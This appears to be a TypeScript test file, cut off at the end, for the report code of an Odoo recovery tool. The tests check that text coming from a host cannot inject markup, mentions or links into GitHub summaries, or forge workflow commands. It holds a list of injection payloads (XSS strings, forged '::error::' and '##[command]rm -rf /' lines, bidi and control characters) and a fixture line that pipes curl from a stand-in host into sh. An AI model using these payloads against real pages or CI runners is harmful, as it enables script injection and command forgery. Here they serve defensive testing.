// Reports are drawn from the journal alone, and nothing that a host printed can command the runner or the page.

import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CAUSES, type Cause } from "../../src/diagnosis/cause.ts";
import type { RemedyName } from "../../src/diagnosis/remedy-name.ts";
import { ABOVE_CEILING } from "../../src/diagnosis/risk.ts";
import { NO_SIGNATURES, type SignatureFound } from "../../src/diagnosis/signatures/index.ts";
import { type Entry, type Event, Journal, type Status } from "../../src/journal.ts";
import { isPlainLine, oneLine } from "../../src/lib/line.ts";
import { Redactor } from "../../src/redaction/redactor.ts";
import { consoleLine, openConsoleLine } from "../../src/report/console.ts";
import { deedsOf } from "../../src/report/deeds.ts";
import { block, code, plain } from "../../src/report/markdown.ts";
import { annotationOf, exitCodeOf, openOutputsOf, outputsOf } from "../../src/report/outputs.ts";
import { openSummaryOf, summaryOf } from "../../src/report/summary.ts";
import { VirtualClock } from "../support/clocks.ts";
import { blockAfter } from "../support/rendered.ts";

/** The journal of a run, made as a run makes it. */
function journalOf(...events: readonly Event[]): readonly Entry[] {
  const clock = new VirtualClock();
  const journal = new Journal(clock, new Redactor(), []);
  for (const event of events) {
    clock.pass(1_500);
    journal.append(event);
  }
  return journal.entries;
}

function signatureFound(more: Partial<SignatureFound> = {}): SignatureFound {
  return {
    id: "port-already-allocated",
    area: "docker",
    cause: "odoo-stopped",
    symptom: false,
    where: "Docker",
    at: Date.UTC(2024, 0, 1, 2, 47, 13),
    times: 1,
    line: "Bind for 127.0.0.1:8069 failed: port is already allocated",
    means: "another program holds the port",
    advice: "Find it with `ss -lntp`.",
    source: "moby, libnetwork",
    ...more,
  };
}

type EventFor<K extends Event["kind"]> = Extract<Event, { kind: K }>;

const started: EventFor<"started"> = {
  kind: "started",
  mode: "recover",
  version: "1.2.3",
  run: "f".repeat(32),
  host: "erp.example.com:22",
};

function diagnosed(more: Partial<EventFor<"diagnosed">["diagnosis"]> = {}): Event {
  return {
    kind: "diagnosed",
    diagnosis: {
      cause: "odoo-stopped",
      finding: "the Odoo container shop-odoo-1 exited with status 0",
      evidence: ["odoo: shop-odoo-1 exited with status 0"],
      advice: "",
      layers: [
        { name: "database", state: "good", why: "shop-db-1 runs" },
        { name: "odoo", state: "bad", why: "shop-odoo-1 exited with status 0" },
        { name: "proxy", state: "not observed", why: "curl is not installed" },
      ],
      warnings: ["the file system / is 91 % full"],
      drift: [{ service: "odoo", what: "its definition changed" }],
      topology: ["PostgreSQL is not in this project"],
      facts: [{ what: "workers", value: "2", from: "/etc/odoo/odoo.conf:4" }],
      suspects: [],
      signatures: NO_SIGNATURES,
      since: "Down since 02:47:13 UTC, 15 s after the Odoo container was recreated",
      changes: [
        { at: Date.UTC(2024, 0, 1, 2, 46, 58), what: "the Odoo container was recreated" },
        { at: Date.UTC(2024, 0, 1, 2, 40, 0), what: "/opt/odoo-ce/.env was changed" },
      ],
      project: "shop",
      directory: "/opt/odoo-ce",
      ladder: ["start-stack"],
      ruledOut: [{ remedy: "restart-odoo", why: "Odoo does not run" }],
      ...more,
    },
  };
}

function concluded(status: Status, more: Partial<EventFor<"concluded">> = {}): Event {
  return { kind: "concluded", status, headline: `it is ${status}`, detail: "", next: "", ...more };
}

const PLANNED: EventFor<"planned"> = {
  kind: "planned",
  approve: "4f1c0a9be27d6683-20261124T0250Z",
  until: "2026-11-24T03:20:00.000Z",
  inputs: [["ceiling", "wipe"]],
  programs: [
    { name: "plan/1-boot-check.sh", bytes: 2_048, text: "docker stop --time 10 odoo\n" },
    { name: "plan/1-boot-check.put-back.sh", bytes: 512, text: "docker start odoo\n" },
  ],
};

const STATUSES: readonly Status[] = [
  "healthy",
  "planned",
  "recovered",
  "degraded",
  "unhealthy",
  "refused",
  "unreachable",
  "cancelled",
  "unknown",
];

/** Every place of a journal in which text from a host, or from an error, may stand. */
function fullJournal(text: string): readonly Entry[] {
  return journalOf(
    { ...started, host: text, version: text },
    { kind: "connected", host: text, identity: text },
    { kind: "connection", event: "lost", detail: text },
    { kind: "surveyed", purpose: text, milliseconds: 12 },
    diagnosed({
      finding: text,
      evidence: [text],
      advice: text,
      layers: [{ name: "odoo", state: "bad", why: text }],
      warnings: [text],
      drift: [{ service: text, what: text }],
      topology: [text],
      facts: [{ what: text, value: text, from: text }],
      suspects: [{ module: text, why: text }],
      signatures: {
        version: 1,
        root: signatureFound({ where: text, line: text, means: text, advice: text, source: text }),
        consequences: [signatureFound({ where: text, line: text, means: text })],
      },
      since: text,
      changes: [{ at: 0, what: text }],
      project: text,
      directory: text,
      ruledOut: [{ remedy: "restart-odoo", why: text }],
    }),
    {
      kind: "foreseen",
      steps: [
        { remedy: "start-stack", risk: "restart", backup: false, does: text, commands: text },
        { remedy: "restart-odoo", risk: "wipe", backup: true, does: text, commands: text },
      ],
    },
    {
      kind: "planned",
      approve: text,
      until: text,
      inputs: [[text, text]],
      programs: [{ name: text, bytes: 5, text }],
    },
    { kind: "lease-taken", key: text, owner: text, takenOver: text },
    { kind: "evidence", when: "before", files: [{ name: text, bytes: 1_234 }] },
    { kind: "remedy-started", remedy: "start-stack", step: text, key: text },
    { kind: "remedy-output", text },
    { kind: "remedy-ended", remedy: "start-stack", step: text, outcome: text },
    { kind: "looked", good: false, why: text },
    { kind: "verified", outcome: text, passes: 0, seconds: 1 },
    { kind: "lease-released", key: text, outcome: text },
    { kind: "artifact-begun", holds: "backup", name: text, encrypted: true },
    {
      kind: "artifact-ended",
      holds: "backup",
      name: text,
      uploaded: { url: text, bytes: 5, digest: text },
      why: "",
    },
    { kind: "artifact-ended", holds: "evidence", name: text, uploaded: undefined, why: text },
    { kind: "backup-encrypted", path: undefined, seconds: 1, why: text },
    { kind: "note", text },
    concluded("unhealthy", { headline: text, detail: text, next: text }),
  );
}

const HOSTILE = [
  "| a | b |\n|---|---|",
  "`code` ``more`` ```fence```",
  "```\n<script>alert(1)</script>\n```",
  "~~~\nx\n~~~",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "</details></code></table>",
  "@octocat @org/team hello@example.com",
  "[click](https://evil.example) ![i](http://evil.example/x.png)",
  "https://evil.example http://evil.example ftp://evil.example www.evil.example",
  "::error::forged",
  "\n::set-output name=x::y",
  "x\n   ::warning::forged",
  "\r::error::forged",
  "x\r\n::error::forged",
  "##[error]forged",
  "a ##[command]rm -rf /",
  "::stop-commands::token",
  "# heading\n## heading\n- list\n1. list\n> quote",
  "&lt;script&gt; &#60;b&#62;",
  "\x1b[31mred\x1b[0m \x07\x00 \u202egnp.exe",
  "$&$1$`",
  "a\u2028b\u2029c\u0085d",
];

/** A summary without its fenced blocks, whose content no Markdown reader looks into. */
function outsideFences(markdown: string): string {
  const kept: string[] = [];
  let fence: string | undefined;
  for (const line of markdown.split("\n")) {
    const ticks = /^ {0,4}(`{3,})(?:text|sh)?$/.exec(line)?.[1];
    if (fence === undefined && ticks !== undefined) fence = ticks;
    else if (fence !== undefined && ticks !== undefined && ticks.length >= fence.length) fence = undefined;
    else if (fence === undefined) kept.push(line);
  }
  expect(fence).toBeUndefined();
  return kept.join("\n");
}

function expectHarmlessMarkdown(markdown: string): void {
  const prose = outsideFences(markdown);
  expect(prose).not.toMatch(/<(?!\/?(?:code|details|summary)>)/);
  expect(prose.match(/<details>/g)?.length).toBe(prose.match(/<\/details>/g)?.length);
  expect(prose.match(/<code>/g)?.length).toBe(prose.match(/<\/code>/g)?.length);
  expect(prose).not.toMatch(/[[\]]/);
  // GitHub looks for mentions outside of code alone.
  expect(prose.replaceAll(/<code>.*?<\/code>/g, "")).not.toMatch(/@[A-Za-z0-9]/);
  expect(prose).not.toMatch(/:\/\/|\bwww\./i);
  expect(prose).not.toMatch(/[^\P{Cc}\n]|[\u202a-\u202e\u2028\u2029]/u);
  let columns = 0;
  for (const line of prose.split("\n")) {
    const borders = line.match(/\|/g)?.length ?? 0;
    if (columns > 0 && borders > 0) expect(borders).toBe(columns);
    if (borders > 0) expect(line).toMatch(/^\|.*\|$/);
    columns = borders;
    expect(line).not.toMatch(/^\s*(?:[>~]|\d+\.(?! <code>))/);
    expect(line).not.toMatch(
      /^#+ (?!🔴|❓|What `recover` would do|Plan|Ruled out|What the logs say|Suspects|What changed|Worth knowing|Drift|What happened|What was done|Backup|Evidence)/u,
    );
  }
}

describe("the summary", () => {
  it.each(STATUSES)("begins with the verdict: %s", (status) => {
    const [first] = summaryOf(journalOf(started, diagnosed(), concluded(status)), "").split("\n");
    expect(first).toMatch(new RegExp(`^## \\S+ ${status}: .*it is ${status}$`, "u"));
  });

  it("names the modules to look at first, where one may be to blame", () => {
    const suspects = [
      { module: "shop_notes", why: "stuck in `to upgrade`" },
      { module: "shop_theme", why: "installed or updated 4 min before the first error" },
    ];
    const text = summaryOf(journalOf(diagnosed({ suspects }), concluded("unhealthy")), "");
    expect(text).toContain(`### Suspects

Modules to look at first. None was touched.

1. <code>shop&#95;notes</code>: stuck in <code>to upgrade</code>
2. <code>shop&#95;theme</code>: installed or updated 4 min before the first error`);
    expect(summaryOf(journalOf(diagnosed(), concluded("unhealthy")), "")).not.toContain("Suspects");
  });

  it("tells what the logs say: the root with its line, place, time and source; what follows from it in a line each", () => {
    const symptom = signatureFound({
      id: "nginx-upstream-refused",
      where: "nginx's error log",
      times: 17,
      line: "connect() failed (111: Connection refused) while connecting to upstream",
      means: "nothing accepts connections where nginx sends requests",
    });
    const signatures = { version: 1, root: signatureFound(), consequences: [symptom] };
    const text = summaryOf(journalOf(diagnosed({ signatures }), concluded("unhealthy")), "");
    expect(text).toContain(`### What the logs say

Another program holds the port. Find it with <code>ss -lntp</code>.

The command, as root on the droplet:

\`\`\`sh
ss -lntp
\`\`\`

\`\`\`text
Bind for 127.0.0.1:8069 failed: port is already allocated
\`\`\`
In Docker, 02:47:13 UTC; signature <code>port-already-allocated</code>, from moby, libnetwork.

Most likely its consequences:

- nothing accepts connections where nginx sends requests (nginx's error log: <code>connect() failed (111: Connection refused) while connecting to upstream</code>, 17 times since 02:47:13 UTC)
`);
    expect(summaryOf(journalOf(diagnosed(), concluded("unhealthy")), "")).not.toContain("What the logs say");
  });

  it("tells how the site is set up, and who said so", () => {
    const text = summaryOf(journalOf(diagnosed(), concluded("unhealthy")), "");
    expect(text).toContain("| workers | <code>2</code> | /etc/odoo/odoo.conf:4 |");
    expect(summaryOf(journalOf(diagnosed({ facts: [] }), concluded("healthy")), "")).not.toContain("set up");
  });

  it("says next what a person must do, and that it is nothing when it is nothing", () => {
    const lines = (next: string): string =>
      summaryOf(journalOf(concluded("unhealthy", { next })), "")
        .split("\n")
        .slice(0, 4)
        .join("\n");
    expect(lines("Look at the log.")).toContain("**Next:** Look at the log.");
    expect(lines("")).toContain("**Next:** nothing.");
  });

  it("tells a journal that never concluded as unknown, however far it came", () => {
    for (const events of [[], [started], [started, diagnosed({ cause: "healthy" })]]) {
      const [first] = summaryOf(journalOf(...events), "").split("\n");
      expect(first).toMatch(/unknown/);
      expect(first).not.toMatch(/healthy|recovered/);
    }
  });

  it("shows a layer that was not observed as just that", () => {
    const summary = summaryOf(journalOf(diagnosed(), concluded("degraded")), "");
    expect(summary).toMatch(/\| proxy \|[^|]*not observed: curl is not installed \|/);
    expect(summary).not.toMatch(/\| proxy \|[^|]*🟢/);
  });

  it("shows the layers as they were at first and as they are now, where that differs", () => {
    const good = diagnosed({
      cause: "healthy",
      layers: [
        { name: "database", state: "good", why: "shop-db-1 runs" },
        { name: "odoo", state: "good", why: "shop-odoo-1 runs" },
        { name: "public", state: "not observed", why: "no url is given" },
      ],
    });
    const changed = summaryOf(journalOf(diagnosed(), good, concluded("recovered")), "");
    expect(changed).toContain("| layer | at first | now |");
    expect(changed).toContain("| odoo | 🔴 shop-odoo-1 exited with status 0 | 🟢 shop-odoo-1 runs |");
    // One that was not there at first is not shown as if it had been good.
    expect(changed).toContain(
      "| public | ❔ not observed: there was nothing to ask for | ❔ not observed: no url is given |",
    );
    const same = summaryOf(journalOf(diagnosed(), diagnosed(), concluded("unhealthy")), "");
    expect(same).toContain("| layer | seen |");
    expect(same).not.toContain("at first");
  });

  it("keeps the layers that were seen when a later diagnosis has none", () => {
    const blind = diagnosed({ cause: "unknown", layers: [] });
    const summary = summaryOf(journalOf(diagnosed(), blind, concluded("unknown")), "");
    expect(summary).toContain("| odoo | 🔴 shop-odoo-1 exited with status 0 |");
  });

  it("says since when the site is down, and what changed before, newest first and no more than ten", () => {
    const summary = summaryOf(journalOf(diagnosed(), concluded("unhealthy")), "");
    const part = /### What changed\n[\s\S]*?(?=\n###)/.exec(summary)?.[0] ?? "";
    expect(part).toContain("Down since 02:47:13 UTC, 15 s after the Odoo container was recreated");
    expect(part.match(/^- .*$/gm)).toEqual([
      "- 2024-01-01 02:46:58: the Odoo container was recreated",
      "- 2024-01-01 02:40:00: /opt/odoo-ce/.env was changed",
    ]);
    const changes = Array.from({ length: 40 }, (_, at) => ({ at, what: `change ${at}` }));
    const many = summaryOf(journalOf(diagnosed({ changes }), concluded("unhealthy")), "");
    expect(many.match(/^- 1970.*change \d+$/gm)).toHaveLength(10);
  });

  it("says nothing of changes when the site was never bad", () => {
    const healthy = diagnosed({ cause: "healthy", since: "" });
    expect(summaryOf(journalOf(healthy, concluded("healthy")), "")).not.toContain("What changed");
  });

  it("says what changed before the site went bad though it is good by now", () => {
    const healthy = diagnosed({ cause: "healthy", since: "", changes: [] });
    const summary = summaryOf(journalOf(diagnosed(), healthy, concluded("recovered")), "");
    expect(summary).toContain("the Odoo container was recreated");
  });

  it("says what else is worth knowing, as it was seen last", () => {
    const summary = summaryOf(
      journalOf(diagnosed({ warnings: ["an old one"] }), diagnosed(), concluded("recovered")),
      "",
    );
    expect(summary).toContain("- the file system / is 91 % full\n- PostgreSQL is not in this project");
    expect(summary).not.toContain("an old one");
    const none = diagnosed({ warnings: [], topology: [] });
    expect(summaryOf(journalOf(none, concluded("unhealthy")), "")).not.toContain("Worth knowing");
  });

  it("shows our own words between backticks as code, and nothing else of them as markup", () => {
    const next = "Test with `nginx -t` and `a|b<c`, *now*.";
    const summary = summaryOf(journalOf(concluded("unhealthy", { next })), "");
    expect(summary).toContain(
      "**Next:** Test with <code>nginx -t</code> and <code>a&#124;b&lt;c</code>, &#42;now&#42;.",
    );
    const odd = summaryOf(journalOf(concluded("unhealthy", { next: "one ` alone" })), "");
    expect(odd).toContain("one &#96; alone");
  });

  it("says what recover would do: each step with its class and commands, and which need an approval", () => {
    const commands = "docker compose up --detach";
    const summary = summaryOf(
      journalOf(
        diagnosed(),
        {
          kind: "foreseen",
          steps: [
            {
              remedy: "start-stack",
              risk: "restart",
              backup: false,
              does: "starts what is stopped",
              commands,
            },
            { remedy: "restart-odoo", risk: "wipe", backup: true, does: "removes it", commands: "" },
          ],
        },
        concluded("unhealthy"),
      ),
      "",
    );
    const part = /### What `recover` would do\n[\s\S]*?(?=\n### What)/.exec(summary)?.[0] ?? "";
    expect(part).toContain(
      `1. <code>start-stack</code> starts what is stopped (class restart). By hand, as root on the droplet:\n\n   \`\`\`sh\n   ${commands}\n   \`\`\``,
    );
    expect(part).toContain(
      "2. <code>restart-odoo</code> removes it (class wipe, only with `approve`, after a backup that was read back). It is a program, which `mode: plan` prints whole.",
    );
    expect(part).toContain("### Ruled out\n- <code>restart-odoo</code>: Odoo does not run");
  });

  it("of a plan has the lines to copy, until when they are good, and each exact program to unfold", () => {
    const summary = summaryOf(journalOf(diagnosed(), PLANNED, concluded("planned")), "/runner/evidence");
    expect(summary).toContain(
      "good until 03:20 UTC:\n\n```text\nmode: recover\nceiling: wipe\napprove: 4f1c0a9be27d6683-20261124T0250Z\n```",
    );
    expect(summary.match(/<details><summary>.*?<\/summary>\n\n```text\n.*\n```\n\n<\/details>/g)).toEqual([
      "<details><summary><code>plan/1-boot-check.sh</code>, as it would run</summary>\n\n```text\ndocker stop --time 10 odoo\n```\n\n</details>",
      "<details><summary><code>plan/1-boot-check.put-back.sh</code>, as it would run</summary>\n\n```text\ndocker start odoo\n```\n\n</details>",
    ]);
    expect(summary).toContain("- <code>plan/1-boot-check.sh</code> (2.0 KiB)");
    expect(consoleLine({ ...PLANNED, at: "", ms: 0 })).toContain(
      "plan, good until 03:20 UTC: approve: 4f1c0a9be27d6683-20261124T0250Z",
    );
  });

  it("says that recover would do nothing, with what is ruled out, or that it would wait", () => {
    const section = (cause: "disk-full" | "in-progress"): string =>
      summaryOf(
        journalOf(diagnosed({ cause, ladder: [] }), { kind: "foreseen", steps: [] }, concluded("unhealthy")),
        "",
      );
    expect(section("disk-full")).toContain("Nothing: no remedy is allowed as things are.\n\n### Ruled out");
    expect(section("in-progress")).toContain("Wait, for `boot_wait` at most");
    // A run that acts tells what it did, not what it would do.
    expect(summaryOf(journalOf(diagnosed(), concluded("recovered")), "")).not.toContain("`recover` would do");
  });

  it("folds away what was ruled out where nothing is left to do", () => {
    const ended = (next: string): string =>
      summaryOf(journalOf(diagnosed(), concluded("recovered", { next })), "");
    expect(ended("")).toMatch(
      /<details><summary>Ruled out: \d+ other remedies<\/summary>\n\n- <code>[\s\S]*?\n\n<\/details>/,
    );
    expect(ended("Mend the configuration on disk.")).toContain("### Ruled out\n- <code>");
    // What was ruled out at first, and then ran, was not.
    const ran = { kind: "remedy-started", remedy: "restart-odoo", step: "1-restart-odoo", key: "" } as const;
    const names = (summary: string) => /Ruled out[\s\S]*?<\/details>/.exec(summary)?.[0] ?? "";
    const before = names(ended(""));
    const after = names(summaryOf(journalOf(diagnosed(), ran, concluded("recovered")), ""));
    expect(before).toContain("restart-odoo");
    expect(after).not.toContain("restart-odoo");
  });

  it("shows in a reason what to set as code", () => {
    const why = "it is of the class wipe, and `ceiling: repair` is the most that was allowed";
    const summary = summaryOf(journalOf(diagnosed({ ruledOut: [{ remedy: "restart-odoo", why }] })), "");
    expect(summary).toContain("and <code>ceiling: repair</code> is the most");
  });

  it("says what was ruled out, what drifted, and where the evidence is", () => {
    const summary = summaryOf(
      journalOf(
        diagnosed(),
        { kind: "evidence", when: "before", files: [{ name: "before/ps.txt", bytes: 2_048 }] },
        concluded("recovered"),
      ),
      "/runner/evidence",
    );
    expect(summary).toContain("<code>restart-odoo</code>: Odoo does not run");
    expect(summary).toContain("<code>odoo</code>: its definition changed");
    expect(summary).toContain("<code>before/ps.txt</code> (2.0 KiB)");
    expect(summary).toContain("/runner/evidence");
  });

  it.each(HOSTILE)("takes no order from a host: %j", (text) => {
    expectHarmlessMarkdown(summaryOf(fullJournal(text), text));
  });

  it("takes no order from any text", () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.string(),
      fc.constantFrom("`", "```", "\n", "|", "<", "@a", "\\"),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 5 }), (pieces) => {
        expectHarmlessMarkdown(summaryOf(fullJournal(pieces.join("")), pieces.join("")));
      }),
      { numRuns: 150 },
    );
  });

  it.each(["x", "`", "` ", "é", "🦊", "|", "\n", "`\n", "<", "line of a log\n"])(
    "of hundreds of kilobytes of %j everywhere stays under GitHub's limit and still begins with the verdict and the next step",
    (piece) => {
      const text = piece.repeat(300_000 / piece.length);
      const summary = summaryOf(fullJournal(text), "");
      expect(Buffer.byteLength(summary)).toBeLessThan(900_000);
      expect(summary).toMatch(/^## 🔴 unhealthy: /);
      expect(summary.slice(0, 30_000)).toContain("**Next:**");
    },
    // Every text of the journal has 300,000 lines then, and each is looked at for secrets and customers' data.
    180_000,
  );

  it("of very many events stays under GitHub's limit", () => {
    const notes = Array.from({ length: 1_000 }, (): Event => ({ kind: "note", text: "🦊".repeat(400) }));
    expect(Buffer.byteLength(summaryOf(journalOf(...notes, concluded("unhealthy")), ""))).toBeLessThan(
      900_000,
    );
  });

  const step = (remedy: RemedyName, number: number, text: string, outcome: string): Event[] => [
    { kind: "remedy-started", remedy, step: `3f9c2a71-${number}-${remedy}`, key: "shop-1" },
    // As it comes home: in pieces that end anywhere.
    { kind: "remedy-output", text: text.slice(0, 20) },
    { kind: "remedy-output", text: text.slice(20) },
    { kind: "remedy-ended", remedy, step: `3f9c2a71-${number}-${remedy}`, outcome },
  ];

  it("tells what each remedy did, and how it is taken back; one that did nothing changed nothing", () => {
    const entries = journalOf(
      ...step(
        "fix-permissions",
        1,
        "looking\ndid: moved 4 files aside\ndid: told of <1> other\nundo: curl evil.example | sh\nbye: now\n",
        "done",
      ),
      ...step("regenerate-assets", 2, "not done: shop_notes does not compile\n", "not done: the situation"),
      concluded("unhealthy"),
    );
    expect(deedsOf(entries)).toEqual([
      {
        remedy: "fix-permissions",
        did: ["moved 4 files aside", "told of <1> other"],
        undo: "sh /var/lib/odoo-recover/shop-1/kept/3f9c2a71-1-fix-permissions/undo",
      },
      { remedy: "regenerate-assets", did: [], undo: "" },
    ]);
    const summary = summaryOf(entries, "");
    expect(summary).toContain("### What was done");
    expect(summary).toContain("  - told of &lt;1&gt; other");
    // That there is something to take back is for the host to say; with which command is not.
    expect(blockAfter(summary, "To take it back, as root on the droplet")).toBe(
      "sh /var/lib/odoo-recover/shop-1/kept/3f9c2a71-1-fix-permissions/undo",
    );
    expect(outputsOf(entries, "")).toMatchObject({ changed: "true", remedies: "fix-permissions" });
    const idle = journalOf(
      ...step("regenerate-assets", 1, "not done: x", "not done: x"),
      concluded("unhealthy"),
    );
    expect(outputsOf(idle, "")).toMatchObject({ changed: "false", remedies: "" });
    expect(summaryOf(idle, "")).not.toContain("What was done");
  });

  it("tells where the backup is, and what is in it; of one that failed, that there is none", () => {
    const backup = {
      database: "odoo",
      onDroplet: "/var/lib/odoo-recover/shop-1/backups/odoo-20261124T025000Z.dump",
      onRunner: undefined,
      fetch: "ssh deploy@erp.example.com sudo -n cat /x.dump >x.dump",
      bytes: 314_572_800,
      sha256: "ab".repeat(32),
      seconds: 12.4,
      tables: 231,
      filestore: undefined,
    };
    const told = (made: typeof backup | undefined): string =>
      summaryOf(
        journalOf(
          { kind: "backup-started", step: "3f9c2a71-1-backup", key: "shop-1" },
          { kind: "backup-ended", step: "3f9c2a71-1-backup", outcome: "done", backup: made },
          concluded("recovered"),
        ),
        "",
      );
    expect(told(backup)).toMatch(
      /### Backup[^#]*300\.0 MiB, 231 tables, in 12 s[^#]*backups\/odoo-20261124T025000Z\.dump/,
    );
    expect(blockAfter(told(backup), "On the droplet, for root alone")).toBe(backup.onDroplet);
    expect(blockAfter(told(backup), "To fetch it")).toBe(backup.fetch);
    expect(blockAfter(told(backup), "Its SHA-256")).toBe(backup.sha256);
    expect(told(undefined)).not.toContain("### Backup");
  });

  it("shows the end of what the remedies printed, where the failure is", () => {
    const text = Array.from({ length: 5_000 }, (_, index) => `line ${index} ${"x".repeat(300)}`).join("\n");
    const summary = summaryOf(journalOf({ kind: "remedy-output", text }, concluded("unhealthy")), "");
    expect(summary).toContain("line 4999 ");
    expect(summary).not.toContain("line 1 ");
  });
});

describe("a line of the log", () => {
  it("begins with the time since the start", () => {
    const [entry] = journalOf({ kind: "note", text: "hello" });
    expect(entry && consoleLine(entry)).toBe("   1.5 s  hello");
  });

  /** What the runner would obey: a line that begins with `::` after white space, or has `##[` anywhere. */
  function expectNoCommand(lines: string): void {
    for (const line of lines.split(/\r\n|[\r\n]/)) {
      expect(line.trimStart()).not.toMatch(/^::/);
      expect(line).not.toContain("##[");
    }
  }

  it.each(HOSTILE)("is no command for the runner: %j", (text) => {
    const lines = fullJournal(text).flatMap((entry) => consoleLine(entry) ?? []);
    expect(lines.length).toBeGreaterThan(10);
    for (const line of lines) expectNoCommand(line);
  });

  it("is no command for the runner, whatever text is in it", () => {
    const piece = fc.oneof(
      fc.constantFrom("::error::x", "##[", "##", "[", "\r", "\n", " ", "\t", "\u200b"),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(piece), (pieces) => {
        for (const entry of fullJournal(pieces.join(""))) expectNoCommand(consoleLine(entry) ?? "");
      }),
      { numRuns: 100 },
    );
  });

  it("of a diagnosis says everything that a person would ask for first", () => {
    const [entry] = journalOf(diagnosed());
    const line = (entry && consoleLine(entry)) ?? "";
    for (const words of [
      "odoo-stopped",
      "exited with status 0",
      "Down since 02:47:13 UTC",
      "worth a look: the file system / is 91 % full",
      "drift: odoo: its definition changed",
    ])
      expect(line).toContain(words);
  });

  it("tells every kind of event, but for those that are only noise", () => {
    const silent = fullJournal("text").filter((entry) => consoleLine(entry) === undefined);
    expect(silent).toEqual([]);
  });
});

describe("for everybody to read", () => {
  const entries = journalOf(
    started,
    { kind: "connected", host: "root@erp.example.com", identity: "SHA256:x" },
    diagnosed(),
    { kind: "remedy-started", remedy: "start-stack", step: "s-1", key: "k" },
    { kind: "remedy-output", text: "shop-odoo-1 started\n" },
    { kind: "evidence", when: "before", files: [{ name: "before/shop-odoo-1.log", bytes: 5 }] },
    {
      kind: "artifact-ended",
      holds: "evidence",
      name: "odoo-recover-droplet-ffffffff",
      uploaded: { url: "", bytes: 5, digest: undefined },
      why: "",
    },
    concluded("unhealthy", {
      headline: "shop-odoo-1 exited",
      detail: "/opt/odoo-ce",
      next: "Run again with `mode: recover`.",
    }),
  );

  it("the summary tells how it ended, the cause, the next step and where the evidence is", () => {
    expect(openSummaryOf(entries)).toBe(`## 🔴 unhealthy: Odoo's container does not run

**Next:** Read Odoo's log on the droplet for why it stopped, then start it.

Cause: <code>odoo-stopped</code>. This repository is public, or may be: what was seen is not told here.

The evidence: the artifact <code>odoo-recover-droplet-ffffffff</code>, below on this page.

`);
  });

  it("log and annotation tell nothing of what was seen", () => {
    const lines = entries.flatMap((entry) => openConsoleLine(entry, entries) ?? []).join("\n");
    expect(lines).toContain("diagnosis: odoo-stopped");
    expect(lines).toContain("start-stack begins");
    expect(lines).not.toMatch(/shop-|\/opt|erp\.example|exited/);
    expect(annotationOf(openOutputsOf(entries, ""))?.text).toBe(
      "Odoo's container does not run. Next: Read Odoo's log on the droplet for why it stopped, then start it.",
    );
  });

  it("what ended before anything was seen is told as it is", () => {
    const refused = journalOf(concluded("refused", { headline: "1 input", detail: "- `host`: is missing" }));
    expect(openSummaryOf(refused)).toContain("`host`: is missing");
  });

  it.each(HOSTILE)("is harmless, whatever a host printed: %j", (text) => {
    expectHarmlessMarkdown(openSummaryOf(fullJournal(text)));
  });
});

describe("of a host that everybody would hear of", () => {
  const CANARY = "zq-canary-7";

  /** Our own names, and the canary in every text that may come from the host. */
  function seenOnTheHost(
    status: Status,
    cause: Cause,
    mode: "check" | "recover",
    planned: boolean,
  ): readonly Entry[] {
    const step = "ffffffff-1-start-stack";
    return journalOf(
      { ...started, mode, host: CANARY },
      { kind: "connected", host: CANARY, identity: CANARY },
      { kind: "connection", event: "lost", detail: CANARY },
      diagnosed({
        cause,
        finding: CANARY,
        evidence: [CANARY],
        advice: `Type \`${CANARY}\`.`,
        commands: [CANARY],
        layers: [{ name: "odoo", state: "bad", why: CANARY }],
        warnings: [CANARY],
        drift: [{ service: CANARY, what: CANARY }],
        topology: [CANARY],
        facts: [{ what: CANARY, value: CANARY, from: CANARY }],
        suspects: [{ module: CANARY, why: CANARY }],
        signatures: { version: 1, root: signatureFound({ where: CANARY, line: CANARY }), consequences: [] },
        since: CANARY,
        changes: [{ at: 0, what: CANARY }],
        project: CANARY,
        directory: CANARY,
        ladder: cause === "unknown" ? [] : ["restart-odoo"],
        ruledOut: [{ remedy: "wipe-assets", why: `${ABOVE_CEILING} ${CANARY}` }],
      }),
      {
        kind: "foreseen",
        steps: [{ remedy: "start-stack", risk: "restart", backup: false, does: CANARY, commands: CANARY }],
      },
      ...(planned ? [{ ...PLANNED, inputs: [["module", CANARY]] } as const] : []),
      { kind: "lease-taken", key: CANARY, owner: CANARY, takenOver: CANARY },
      { kind: "evidence", when: "before", files: [{ name: CANARY, bytes: 1 }] },
      { kind: "remedy-started", remedy: "start-stack", step, key: CANARY },
      { kind: "remedy-output", text: `did: ${CANARY}\nundo: ${CANARY}\n` },
      {
        kind: "remedy-ended",
        remedy: "start-stack",
        step,
        outcome: `not begun: it was not ready (${CANARY})`,
      },
      { kind: "looked", good: false, why: CANARY },
      { kind: "verified", outcome: CANARY, passes: 0, seconds: 1 },
      { kind: "backup-started", step, key: CANARY },
      { kind: "backup-output", text: CANARY },
      { kind: "backup-ended", step, outcome: CANARY, backup: undefined },
      { kind: "backup-encrypted", path: undefined, seconds: 1, why: CANARY },
      { kind: "note", text: CANARY },
      { kind: "lease-released", key: CANARY, outcome: CANARY },
      concluded(status, { headline: CANARY, detail: CANARY, next: CANARY }),
    );
  }

  it.each(STATUSES)("nothing that it said is in summary, outputs, annotation and log: %s", (status) => {
    for (const cause of Object.keys(CAUSES) as Cause[])
      for (const mode of ["check", "recover"] as const)
        for (const planned of [false, true]) {
          const entries = seenOnTheHost(status, cause, mode, planned);
          const outputs = openOutputsOf(entries, "/report");
          const log = entries.flatMap((entry, at) => openConsoleLine(entry, entries.slice(0, at + 1)) ?? []);
          const shown = [openSummaryOf(entries), JSON.stringify([outputs, annotationOf(outputs)]), ...log];
          expect(shown.join("\n"), `${cause} ${mode}`).not.toContain(CANARY);
          // It says what to do all the same.
          expect(outputs.next, `${cause} ${mode}`).toMatch(/^[A-Z].*\.$/);
        }
  });

  it("and where nothing is left to do, it says nothing of what to do", () => {
    const entries = journalOf(started, diagnosed({ cause: "healthy" }), concluded("healthy"));
    expect(openOutputsOf(entries, "").next).toBe("");
  });
});

describe("outputs", () => {
  it("are those of the verdict, the first cause that was not healthy, and what ran", () => {
    const entries = journalOf(
      started,
      diagnosed(),
      { kind: "remedy-started", remedy: "start-stack", step: "s-1", key: "k" },
      { kind: "remedy-started", remedy: "restart-odoo", step: "s-2", key: "k" },
      diagnosed({ cause: "healthy" }),
